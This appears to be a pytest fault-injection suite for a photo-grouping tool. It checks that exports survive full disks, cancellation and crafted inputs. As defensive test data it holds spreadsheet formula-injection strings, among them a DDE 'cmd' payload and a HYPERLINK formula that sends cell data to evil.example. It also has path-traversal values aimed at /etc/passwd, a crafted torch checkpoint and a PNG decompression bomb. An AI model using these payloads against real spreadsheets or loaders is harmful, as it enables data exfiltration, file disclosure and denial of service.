"""Fault injection without QGIS: full disk, cancel mid-run, crafted tables, models and checkpoints.

Each test states the attack, then asserts the outcome (exception or result), the sentence, that
no source photo changed (sha256 before/after) and what is left on disk. As root the full disk
is a real 200 KB tmpfs (tests/fault_helpers.py), otherwise a writer that raises ENOSPC.
"""
import json
import os
import signal
import sqlite3
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest

from photo_motifs.core.exportgroups import export_groups
from photo_motifs.core.feedback import Canceled, CoreFeedback
from photo_motifs.tests.fault_helpers import (
    copy_photos,
    enospc_after,
    files_under,
    read_only_folder,
    sha_tree,
    small_disk,
)

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+2", "-2+3",
            "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.fixture
def photos(labeled_dir, tmp_path):
    folder = tmp_path / "photos"
    copy_photos(labeled_dir / "intel_scenes_dev" / "forest", folder, 30)
    return folder


def _xlsx_xml(path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode("utf-8")


def _cancel_after(n_checks: int) -> CoreFeedback:
    """A feedback whose cancel flag turns on at its n-th check: a cancel in the middle of a loop."""
    calls = {"n": 0}

    def is_canceled():
        calls["n"] += 1
        return calls["n"] > n_checks

    return CoreFeedback(is_canceled=is_canceled)


# -- 1. formula injection ------------------------------------------------------------------------

def test_export_tables_write_formula_text_as_text(photos, tmp_path):
    paths = sorted(photos.iterdir())[: len(FORMULAS)]
    rows = [{"photo": str(p), "cluster": "C1", "title": t, "owner": t} for p, t in zip(paths, FORMULAS, strict=True)]
    before = sha_tree(photos)
    report = export_groups(rows, tmp_path / "out", write_tables=("xlsx", "csv"))
    xlsx = next(p for p in report.tables if p.endswith(".xlsx"))
    xml = _xlsx_xml(xlsx)
    assert "<f>" not in xml and "<f " not in xml  # no formula cell at all
    from openpyxl import load_workbook

    sheet = load_workbook(xlsx).active
    titles = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert titles == FORMULAS  # the exact text, shown as text
    import csv

    csv_path = next(p for p in report.tables if p.endswith(".csv"))
    with open(csv_path, newline="", encoding="utf-8-sig") as fh:
        body = list(csv.reader(fh))[1:]
    assert [r[2] for r in body] == ["'" + t for t in FORMULAS]
    assert sha_tree(photos) == before


def test_image_tools_csv_prefixes_formula_text(tmp_path):
    from photo_motifs.core.classify import ClassifiedPhoto, ClassifyResult, write_image_tools_csv

    result = ClassifyResult(classes=["=evil()", "ok"], photos=[
        ClassifiedPhoto(0, "=HYPERLINK(\"http://x\")", "=evil()", 0.9, [("=evil()", 0.9)]),
        ClassifiedPhoto(1, "/photos/b.jpg", "ok", 0.8, [("ok", 0.8)])],
        failed=[(2, "@danger.jpg", "unreadable", "unreadable")])
    import csv

    with open(write_image_tools_csv(tmp_path / "t.csv", result), newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["File", "Label", "Confidence"], ["'=HYPERLINK(\"http://x\")", "'=evil()", "0.900000"],
                    ["/photos/b.jpg", "ok", "0.800000"], ["'@danger.jpg", "", ""]]


def test_safe_cells_rules():
    from photo_motifs.core.safe_cells import csv_cell, xlsx_value

    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=b", "", None, -3.5, 7)] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=b", "", "", -3.5, 7]
    assert xlsx_value("a\x01b\x1fc") == "abc"


# -- 4. files read from outside the intended place -----------------------------------------------

def test_export_copies_only_images_and_resolves_relative_paths_against_the_layer(photos, tmp_path, monkeypatch):
    layer_dir = tmp_path / "a" / "b" / "c" / "layer"
    layer_dir.mkdir(parents=True)
    good = sorted(photos.iterdir())[0]
    rel_good = os.path.relpath(good, layer_dir)
    monkeypatch.chdir(tmp_path / "a")  # the working directory must not matter
    rows = [
        {"photo": "../" * 12 + "etc/passwd", "cluster": "x"},
        {"photo": "/etc/hostname", "cluster": "x"},
        {"photo": rel_good, "cluster": "x"},
    ]
    out = tmp_path / "share"
    report = export_groups(rows, out, root=layer_dir, write_tables=())
    assert files_under(out) == [f"x/{good.name}"]
    assert report.copied == 1 and report.failed == 2
    assert {code for _p, code, _s in report.problems} == {"not_an_image"}
    assert all("not an image" in s for _p, _c, s in report.problems)


def test_export_without_layer_folder_never_uses_the_working_directory(photos, tmp_path, monkeypatch):
    monkeypatch.chdir(photos)
    name = sorted(photos.iterdir())[0].name
    report = export_groups([{"photo": name, "cluster": "x"}], tmp_path / "out", write_tables=())
    assert report.copied == 0 and report.problems[0][1] == "relative_path"
    assert files_under(tmp_path / "out") == []


def _tiny_classifier(path: Path, batch=None, external=None, n_classes=2):
    """[batch, 4, 4, 3] NHWC image -> Softmax(flatten @ W) ; W inline or external (location)."""
    import onnx
    from onnx import TensorProto, helper

    w = np.linspace(-1, 1, 48 * n_classes, dtype=np.float32).reshape(48, n_classes)
    if external is None:
        init = onnx.numpy_helper.from_array(w, "W")
    else:
        init = helper.make_tensor("W", TensorProto.FLOAT, [48, n_classes], vals=[])
        init.ClearField("float_data")
        init.data_location = TensorProto.EXTERNAL
        for k, v in (("location", external), ("offset", "0"), ("length", str(w.nbytes))):
            entry = init.external_data.add()
            entry.key, entry.value = k, v
    shape = [batch if batch else "N", 4, 4, 3]
    graph = helper.make_graph(
        [helper.make_node("Flatten", ["x"], ["f"], axis=1), helper.make_node("MatMul", ["f", "W"], ["z"]),
         helper.make_node("Softmax", ["z"], ["Confidences"], axis=1)],
        "tiny", [helper.make_tensor_value_info("x", TensorProto.FLOAT, shape)],
        [helper.make_tensor_value_info("Confidences", TensorProto.FLOAT, [shape[0], n_classes])], [init])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(model.SerializeToString())
    return path


def _signature(folder: Path, filename: str) -> Path:
    sig = {"format": "onnx", "filename": filename, "classes": {"Label": ["a", "b"]},
           "inputs": {"Image": {"name": "x", "shape": [None, 4, 4, 3]}},
           "outputs": {"Confidences": {"name": "Confidences"}}}
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "signature.json").write_text(json.dumps(sig))
    return folder / "signature.json"


@pytest.mark.parametrize("filename", ["../other/model.onnx", "/etc/passwd", "link.onnx"])
def test_signature_model_file_outside_the_folder_is_refused(tmp_path, filename):
    from photo_motifs.models.lobe import ModelError, load_model

    _tiny_classifier(tmp_path / "other" / "model.onnx")
    (tmp_path / "lobe").mkdir()
    os.symlink(tmp_path / "other" / "model.onnx", tmp_path / "lobe" / "link.onnx")
    sig = _signature(tmp_path / "lobe", filename)
    with pytest.raises(ModelError, match="outside"):
        load_model(sig)


def test_onnx_external_data_outside_the_folder_is_refused(tmp_path):
    from photo_motifs.models.lobe import ModelError, load_model

    deep = tmp_path / "m" / "n" / "o"
    model = _tiny_classifier(deep / "model.onnx", external="../" * 16 + "etc/passwd")
    with pytest.raises(ModelError, match="outside"):
        clf = load_model(model, labels=["a", "b"])
        clf.predict(np.zeros((1, 4, 4, 3), np.uint8))  # before the fix: /etc/passwd's bytes as weights
    # external data inside the folder still works
    w = np.linspace(-1, 1, 96, dtype=np.float32)
    (deep / "w.bin").write_bytes(w.tobytes())
    ok = load_model(_tiny_classifier(deep / "ok.onnx", external="w.bin"), labels=["a", "b"])
    assert ok.predict(np.zeros((1, 4, 4, 3), np.uint8)).shape == (1, 2)


def test_empty_onnx_file_says_so(tmp_path):
    from photo_motifs.models.lobe import ModelError, load_model

    empty = tmp_path / "empty.onnx"
    empty.write_bytes(b"")
    with pytest.raises(ModelError, match="empty") as info:
        load_model(empty, labels=["a", "b"])
    assert "0 inputs" not in str(info.value)


def test_fixed_batch_one_classifier_runs_photo_by_photo(photos, tmp_path):
    from types import SimpleNamespace

    from photo_motifs.core.classify import classify_paths
    from photo_motifs.core.decode import load_for_backbone
    from photo_motifs.models.lobe import load_model

    model = load_model(_tiny_classifier(tmp_path / "b1.onnx", batch=1), labels=["a", "b"])
    paths = sorted(photos.iterdir())[:5]
    res = classify_paths(paths, model, batch_size=4)
    assert not res.failed and len(res.photos) == 5
    assert res.probs.shape == (5, 2) and np.allclose(res.probs.sum(axis=1), 1, atol=1e-5)
    # the model's own formula in numpy, softmax(pixels / 255 @ W), on the decoded 4 x 4 pixels:
    # independent of onnxruntime and of the batching under test
    spec = SimpleNamespace(input_size=4, resize_short=4, crop=model.crop, resample=model.resample, pixel_quirk=None)
    w = np.linspace(-1, 1, 96, dtype=np.float64).reshape(48, 2)
    z = np.stack([load_for_backbone(p, spec).reshape(-1) / 255.0 for p in paths]) @ w
    expected = np.exp(z - z.max(axis=1, keepdims=True))
    expected /= expected.sum(axis=1, keepdims=True)
    assert np.allclose(res.probs, expected, atol=1e-5)


def _crafted_checkpoint(path: Path, offset: int, size, stride, numel: int = 16) -> Path:
    """A torch zip checkpoint written opcode by opcode: one tensor with the given layout."""
    def text(s):
        b = s.encode()
        return b"X" + struct.pack("<I", len(b)) + b

    def integer(v):
        return b"J" + struct.pack("<i", v)

    def tup(items):
        return b"(" + b"".join(items) + b"t"

    pid = tup([text("storage"), b"ctorch\nFloatStorage\n", text("0"), text("cpu"), integer(numel)]) + b"Q"
    args = tup([pid, integer(offset), tup([integer(v) for v in size]), tup([integer(v) for v in stride]),
                b"\x89"])
    pkl = b"\x80\x02}" + text("weight") + b"ctorch._utils\n_rebuild_tensor_v2\n" + args + b"Rs."
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("archive/data.pkl", pkl)
        zf.writestr("archive/data/0", np.arange(numel, dtype="<f4").tobytes())
    return path


def test_torch_checkpoint_layouts_that_escape_the_storage_are_refused(tmp_path):
    from photo_motifs.models.torch_pickle import CheckpointError, load_torch_state_dict

    ok = load_torch_state_dict(_crafted_checkpoint(tmp_path / "ok.pth", 2, (2, 3), (3, 1)))
    assert ok["weight"].tolist() == [[2, 3, 4], [5, 6, 7]]
    cases = {
        "negative_offset": (-4, (4,), (1,)),
        "negative_stride": (15, (4,), (-1,)),
        "zero_stride_huge": (0, (100000, 100000), (0, 0)),
    }
    for name, (offset, size, stride) in cases.items():
        with pytest.raises(CheckpointError) as info:
            load_torch_state_dict(_crafted_checkpoint(tmp_path / f"{name}.pth", offset, size, stride))
        assert info.value.args[0].endswith("."), name


# -- 2/3. full disk, cancel, read-only ------------------------------------------------------------

def test_export_to_a_full_disk_fails_and_leaves_nothing(photos, tmp_path, monkeypatch):
    before = sha_tree(photos)
    rows = [{"photo": str(p), "cluster": f"C{i % 3}"} for i, p in enumerate(sorted(photos.iterdir()))]
    disk = tmp_path / "disk"
    with small_disk(disk, "200k") as mounted:
        if not mounted:
            import photo_motifs.core.exportgroups as eg

            monkeypatch.setattr(eg.shutil, "copyfileobj", enospc_after(150_000))
        with pytest.raises(ValueError) as info:
            export_groups(rows, disk / "out", write_tables=("xlsx", "csv"))
        left = files_under(disk)
    sentence = str(info.value)
    assert "No space left on device" in sentence and "full" in sentence
    assert "Removed the" in sentence and "as it was before" in sentence
    assert left == []  # no truncated JPEG, no 0-byte XLSX, no temporary file
    assert sha_tree(photos) == before


def test_export_tables_on_a_full_disk_leave_no_empty_file(photos, tmp_path):
    """The photos fit but the table does not: the XLSX is never left as a 0-byte or partial file."""
    rows = [{"photo": str(p), "cluster": "C", "note": "x" * 4000} for p in sorted(photos.iterdir())[:2]]
    disk = tmp_path / "disk"
    with small_disk(disk, "48k") as mounted:
        if not mounted:
            pytest.skip("needs root for a real small disk")  # fails in CI if it ever happens there
        with pytest.raises(ValueError, match="full"):
            export_groups(rows * 40, disk / "out", write_tables=("xlsx", "csv"))
        assert files_under(disk) == []


def test_export_cancelled_mid_run_removes_only_its_own_files(photos, tmp_path):
    out = tmp_path / "out"
    (out / "C0").mkdir(parents=True)
    (out / "C0" / "keep.txt").write_text("the user's file")
    rows = [{"photo": str(p), "cluster": f"C{i % 2}"} for i, p in enumerate(sorted(photos.iterdir()))]
    before = sha_tree(photos)
    with pytest.raises(Canceled) as info:
        export_groups(rows, out, feedback=_cancel_after(12))
    assert "Removed the 12 files" in str(info.value)  # rows 1-12 were copied, the 13th check cancels
    assert files_under(out) == ["C0/keep.txt"] and not (out / "C1").exists()
    assert sha_tree(photos) == before


def test_export_into_a_read_only_folder_is_a_sentence(photos, tmp_path):
    with read_only_folder(tmp_path / "ro") as ro:
        with pytest.raises(ValueError, match="Read-only|not writable"):
            export_groups([{"photo": str(next(photos.iterdir())), "cluster": "C"}], ro / "out")


def test_cache_path_that_is_a_folder_or_read_only_is_a_sentence(tmp_path):
    from photo_motifs.core.embcache import EmbeddingCache

    with pytest.raises(ValueError, match="is a folder"):
        EmbeddingCache(tmp_path)
    with read_only_folder(tmp_path / "ro") as ro:
        with pytest.raises(ValueError, match="cannot") as info:
            EmbeddingCache(ro / "cache.sqlite")
    assert "folder you can write to" in str(info.value)


# -- 6. privacy slip --------------------------------------------------------------------------------

def test_stripped_export_refuses_a_folder_with_unstripped_copies(photos, tmp_path):
    rows = [{"photo": str(p), "cluster": "C"} for p in sorted(photos.iterdir())[:4]]
    out = tmp_path / "share"
    first = export_groups(rows, out, mode="link", write_tables=())
    assert first.hardlinked + first.symlinked + first.copied == 4
    before = files_under(out)
    with pytest.raises(ValueError, match="GPS") as info:
        export_groups(rows, out, strip_metadata=True, write_tables=())
    assert "4 copies" in str(info.value)
    assert files_under(out) == before
    clean = export_groups(rows, tmp_path / "clean", strip_metadata=True, write_tables=())
    assert clean.stripped == 4


# -- concurrency, kill -9, bombs and loops ---------------------------------------------------------

_WRITER = """
import sys, numpy as np
sys.path.insert(0, sys.argv[1])
from photo_motifs.core.embcache import EmbeddingCache
c = EmbeddingCache(sys.argv[2])
start = int(sys.argv[3])
for i in range(start, start + 200):
    c.put_many({f"id{i}": np.full(8, i, np.float32)}, "bb@1")
c.close()
"""


def test_two_writers_on_one_cache(tmp_path):
    import photo_motifs

    root = str(Path(photo_motifs.__file__).resolve().parent.parent)
    cache = tmp_path / "cache.sqlite"
    procs = [subprocess.Popen([sys.executable, "-c", _WRITER, root, str(cache), str(s)]) for s in (0, 200)]
    assert [p.wait(timeout=120) for p in procs] == [0, 0]
    from photo_motifs.core.embcache import EmbeddingCache

    with EmbeddingCache(cache) as c:
        got = c.get_many([f"id{i}" for i in range(400)], "bb@1")
    assert len(got) == 400 and all(got[f"id{i}"][0] == i for i in (0, 199, 200, 399))


_EMBED = """
import sys
sys.path.insert(0, sys.argv[1])
from photo_motifs.core.embcache import EmbeddingCache
from photo_motifs.core.embed import compute_embeddings
from photo_motifs.core.feedback import CoreFeedback
from photo_motifs.models.registry import ensure_onnx, get_backbone
spec = get_backbone("efficientnet_lite0")
paths = sorted(__import__("pathlib").Path(sys.argv[2]).iterdir())
fb = CoreFeedback(on_progress=lambda p: print("progress", p, flush=True))
compute_embeddings(paths, spec, ensure_onnx(spec.id), cache=EmbeddingCache(sys.argv[3]), feedback=fb,
                   batch_size=4)
print("done", flush=True)
"""


def test_kill_9_during_embedding_then_resume(photos, tmp_path):
    import photo_motifs
    from photo_motifs.core.embcache import EmbeddingCache
    from photo_motifs.core.embed import compute_embeddings
    from photo_motifs.models.registry import ensure_onnx, get_backbone

    spec = get_backbone("efficientnet_lite0")
    ensure_onnx(spec.id)
    root = str(Path(photo_motifs.__file__).resolve().parent.parent)
    cache = tmp_path / "cache.sqlite"
    before = sha_tree(photos)
    proc = subprocess.Popen([sys.executable, "-c", _EMBED, root, str(photos), str(cache)],
                            stdout=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    for line in proc.stdout:
        if line.startswith("progress") and float(line.split()[1]) >= 30 or time.monotonic() > deadline:
            break
    proc.send_signal(signal.SIGKILL)
    assert proc.wait(timeout=30) == -signal.SIGKILL
    assert sqlite3.connect(cache).execute("PRAGMA integrity_check").fetchone() == ("ok",)
    res = compute_embeddings(sorted(photos.iterdir()), spec, ensure_onnx(spec.id), cache=EmbeddingCache(cache))
    assert not res.failed and len(res.rows) == 30
    assert res.n_cached >= 1 and res.n_cached + res.n_computed == 30
    assert sha_tree(photos) == before


def _png_bomb(path: Path, side: int = 40000) -> Path:
    """A valid 1x1 PNG whose header claims side x side pixels (CRC fixed): a decompression bomb."""
    from PIL import Image

    Image.new("RGB", (1, 1)).save(path)
    data = bytearray(path.read_bytes())
    ihdr = bytearray(data[12:29])
    ihdr[4:8] = struct.pack(">I", side)
    ihdr[8:12] = struct.pack(">I", side)
    data[12:29] = ihdr
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(ihdr)) & 0xFFFFFFFF)
    path.write_bytes(bytes(data))
    return path


def test_decompression_bomb_and_symlink_loop_are_sentences(photos, tmp_path):
    from photo_motifs.core.decode import DecodeError, open_oriented
    from photo_motifs.core.photometa import scan_folder

    _png_bomb(photos / "bomb.png")
    os.symlink(photos / "loop_a.jpg", photos / "loop_b.jpg")
    os.symlink(photos / "loop_b.jpg", photos / "loop_a.jpg")
    os.symlink(photos, photos / "sub_loop")
    before = sha_tree(photos)
    records, invalid = scan_folder(photos, keep_unlocated=True)
    reasons = {Path(i.path).name: i.reason for i in invalid}
    assert "pixels" in reasons["bomb.png"] and len(records) == 30
    with pytest.raises(DecodeError) as info:
        open_oriented(photos / "bomb.png")
    assert info.value.code == "too_large"
    assert sha_tree(photos) == before


# -- 7. smaller ---------------------------------------------------------------------------------------

def test_header_only_table_names_its_columns(tmp_path):
    from photo_motifs.core.table_import import join_table, read_table

    table = tmp_path / "t.csv"
    table.write_text("id,latitude,longitude\n")
    columns, rows = read_table(table)
    with pytest.raises(ValueError) as info:
        join_table(rows, tmp_path, columns=columns)
    assert "id, latitude, longitude" in str(info.value) and "no rows" in str(info.value)


def test_same_table_id_twice_imports_once_with_a_reason(labeled_dir, tmp_path):
    from photo_motifs.core.table_import import join_table

    src = sorted((labeled_dir / "intel_scenes_dev" / "sea").iterdir())[0]
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "42.jpg").write_bytes(src.read_bytes())
    rows = [{"id": "42", "latitude": "58.3", "longitude": "26.7"}] * 2
    records, invalid = join_table(rows, tmp_path / "photos")
    assert len(records) == 1
    dup = [i for i in invalid if i.reason_code == "duplicate_row"]
    assert len(dup) == 1 and "row 1" in dup[0].reason


def test_saved_models_get_the_usual_file_mode(tmp_path):
    import onnx

    from photo_motifs.models.onnx_utils import save_atomic

    path = save_atomic(onnx.load(_tiny_classifier(tmp_path / "src.onnx")), tmp_path / "model.onnx")
    mask = os.umask(0)
    os.umask(mask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~mask


def test_metadata_table_with_formula_cells_and_traversal_paths(labeled_dir, tmp_path):
    """A Flickr-like table: traversal file names match nothing; formula titles stay text in exports."""
    from photo_motifs.core.table_import import join_table

    folder = tmp_path / "downloads"
    folder.mkdir()
    src = sorted((labeled_dir / "intel_scenes_dev" / "sea").iterdir())[0]
    (folder / "7.jpg").write_bytes(src.read_bytes())
    rows = [{"id": "7", "title": "=HYPERLINK(\"http://evil.example\",\"x\")", "tags": "@cmd", "latitude": "58.3",
             "longitude": "26.7"},
            {"id": "8", "filename": "../../../../etc/passwd", "title": "+1", "latitude": "1", "longitude": "2"},
            {"id": "9", "filename": "/etc/hostname", "title": "-1", "latitude": "1", "longitude": "2"}]
    records, invalid = join_table(rows, folder, filename_field="filename")
    assert [r.as_row()["photo"] for r in records] == [str(folder / "7.jpg")]
    assert {i.reason_code for i in invalid if i.source_row in (2, 3)} == {"no_file"}
    out = export_groups([r.as_row() for r in records], tmp_path / "share", path_field="photo",
                        group_field="tags", write_tables=("xlsx", "csv"))
    assert [f for f in files_under(tmp_path / "share") if f.endswith(".jpg")] == ["@cmd/7.jpg"]
    xml = _xlsx_xml(next(p for p in out.tables if p.endswith(".xlsx")))
    assert "<f>" not in xml and "HYPERLINK" in xml
    csv_text = Path(next(p for p in out.tables if p.endswith(".csv"))).read_text("utf-8-sig")
    assert "'=HYPERLINK(" in csv_text and "'@cmd" in csv_text


def test_contact_sheet_and_vectors_on_a_full_disk_leave_no_partial_file(photos, tmp_path):
    from photo_motifs.core.sheets import contact_sheet
    from photo_motifs.core.vectors_io import export_vectors

    disk = tmp_path / "disk"
    with small_disk(disk, "64k") as mounted:
        if not mounted:
            pytest.skip("needs root for a real small disk")  # fails in CI if it ever happens there
        (disk / "ballast").write_bytes(b"\0" * 40_000)
        with pytest.raises(OSError) as info:
            contact_sheet(sorted(photos.iterdir()), disk / "C1.png", "C1", thumb=200, max_photos=30)
        assert info.value.errno == 28
        with pytest.raises(OSError):
            export_vectors(disk / "v.csv", ([f"p{i}" for i in range(2000)], np.ones((2000, 64), np.float32)))
        assert files_under(disk) == ["ballast"]


def test_export_cancel_names_a_folder_it_made_that_someone_else_filled(photos, tmp_path):
    out = tmp_path / "out"
    rows = [{"photo": str(p), "cluster": f"C{i % 2}"} for i, p in enumerate(sorted(photos.iterdir()))]
    checks = []

    def is_canceled():
        checks.append(1)
        if len(checks) == 12 and (out / "C1").is_dir():
            (out / "C1" / "other.txt").write_text("written by another program during the export")
        return len(checks) > 12

    with pytest.raises(Canceled) as info:
        export_groups(rows, out, feedback=CoreFeedback(is_canceled=is_canceled))
    assert "folders it made are left because they are not empty" in str(info.value)
    assert "as it was before" not in str(info.value)
    assert files_under(out) == ["C1/other.txt"]
